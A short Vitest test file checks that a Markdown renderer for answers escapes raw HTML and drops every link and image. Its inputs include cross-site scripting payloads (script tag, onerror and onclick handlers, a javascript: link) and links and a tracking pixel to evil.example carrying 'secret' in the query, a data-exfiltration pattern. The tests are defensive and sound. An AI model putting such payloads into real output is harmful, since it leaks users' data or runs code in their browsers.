import { describe, expect, it } from "vitest";
import { answerHtml } from "./markdown.js";

describe("answers rendered from Markdown", () => {
  it("renders the Markdown an answer uses", () => {
    const html = answerHtml("**Code review** waits longest:\n\n- p50 4.2 days\n- p85 9.0 days\n\n`In Progress`");
    expect(html).toContain("<strong>Code review</strong>");
    expect(html).toContain("<li>p50 4.2 days</li>");
    expect(html).toContain("<code>In Progress</code>");
  });

  it("escapes raw HTML instead of passing it through", () => {
    const html = answerHtml('<script>alert(1)</script>\n\n<img src=x onerror="alert(2)">\n\nText <b onclick="x()">bold</b>');
    expect(html).not.toMatch(/<script|<img|<b /);
    expect(html).toContain("&lt;script&gt;alert(1)&lt;/script&gt;");
  });

  it("renders no link or image, whatever form it takes", () => {
    const html = answerHtml(
      "[click](javascript:alert(1)) and [data](https://evil.example/?q=secret) ![x](https://evil.example/pixel.png?d=secret) <https://evil.example/auto>\n\n[ref]: https://evil.example/ref\n\n[ref]",
    );
    expect(html).not.toMatch(/<a |<img /);
    expect(html).not.toContain("href=");
    expect(html).not.toContain("src=");
  });
});
